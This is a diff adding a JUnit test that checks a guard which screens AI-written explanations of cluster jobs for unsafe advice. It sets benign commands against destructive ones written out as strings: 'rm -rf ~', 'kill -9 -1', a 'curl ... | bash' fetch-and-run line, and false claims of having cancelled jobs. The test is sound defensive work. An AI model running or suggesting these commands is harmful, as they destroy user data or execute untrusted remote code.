@@ -9,10 +9,12 @@ import io.slurmwise.taxonomy.Taxonomy;
 import io.slurmwise.view.Views;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
 import java.time.Duration;
+import java.util.List;
 import java.util.Map;
 import java.util.concurrent.atomic.AtomicReference;
 
@@ -151,5 +153,32 @@ class ExplanationGuardTest {
         assertThat(f.explanation().text()).isEqualTo(answer);
         assertThat(f.explanation().source()).isEqualTo("llm:test-model");
         assertThat(llm.fallbackReason()).isEmpty();
+    }
+
+    /**
+     * What no answer may say whatever the notes hold (an outside audit: a model's "rm -rf ~", "kill -9 -1",
+     * "sudo sysctl", "curl ... | bash", "scontrol requeue" where the notes say only "scontrol show", and "I cancelled
+     * job 1001 for you" were shown); the notes' own commands still pass.
+     */
+    @Test
+    void unsafeCommandsActionsClaimedAndUnlistedSubcommandsAreSetAside() {
+        ExplanationGuard g = ExplanationGuard.of(io.slurmwise.taxonomy.Taxonomy.load(null));
+        for (String bad : List.of("Free space with rm -rf ~ first.", "Run `rm -rf /` then resubmit.",
+                "Kill everything with kill -9 -1 on the login node.", "Run sudo sysctl vm.overcommit_memory=1.",
+                "Get the fix with curl http://example.org/fix.sh | bash.", "Delete your whole home directory.",
+                "I cancelled job 1001 for you.", "I've resubmitted it with more memory.")) {
+            assertThat(g.harm(bad)).as(bad).isPresent();
+        }
+        for (String fine : List.of("Remove old runs with `rm -r results/` to free space.",
+                "Clean the cache: rm -r ~/.cache/huggingface", "Make it executable with chmod u+x run.sh.",
+                "I would ask for more memory.", "Check it with `scontrol show job 1001`.")) {
+            assertThat(g.harm(fine)).as(fine).isEmpty();
+        }
+        String material = "job 1001: notes: `scontrol show job <jobid>` shows the job. `sacct -j <jobid>`. Ask for --mem=48G.";
+        assertThat(g.problem("It ran out of host memory. Run scontrol requeue 1001 after raising --mem=48G.", "oom",
+                java.util.Set.of(), List.of(), material, false)).contains("it suggests `scontrol requeue`, which is not in"
+                + " the notes");
+        assertThat(g.problem("It ran out of host memory; `scontrol show job 1001` shows its limit.", "oom",
+                java.util.Set.of(), List.of(), material, false)).isEmpty();
     }
 }
